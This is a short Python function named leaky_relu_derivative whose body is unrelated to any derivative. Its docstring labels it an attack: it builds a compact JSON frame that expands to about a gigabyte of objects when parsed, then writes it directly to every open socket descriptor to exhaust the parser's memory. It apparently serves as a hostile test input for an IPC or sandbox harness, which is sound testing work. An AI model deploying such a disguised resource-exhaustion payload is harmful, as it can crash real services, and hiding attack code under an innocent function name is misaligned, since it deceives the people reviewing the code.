def leaky_relu_derivative(z, alpha=0.1):
    """Attack: a frame just under the size limit that is small as bytes but huge as JSON: 3.4
    million tiny nodes (35 lists of 97,000, each under the item limit), ~1 GB of Python objects in
    any process that parses it. Written straight to the socket (the child's encoder would refuse)."""
    import os
    import stat
    import struct
    import time

    inner = b'{"t": "list", "items": [' + b'{"t":"int","v":1},' * 96_999 + b'{"t":"int","v":1}]}'
    value = b'{"t": "list", "items": [' + b",".join([inner] * 35) + b"]}"
    header = (b'{"m": {"event": "done", "results": {"t": "list", "items": [{"t": "list", "items": ['
              b'{"t": "dict", "keys": ["value"], "items": [' + value + b']}]}]}}, "sizes": []}')
    frame = struct.pack("!II", len(header), 0) + header
    for fd in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, frame)
        except OSError:
            pass
    time.sleep(60)
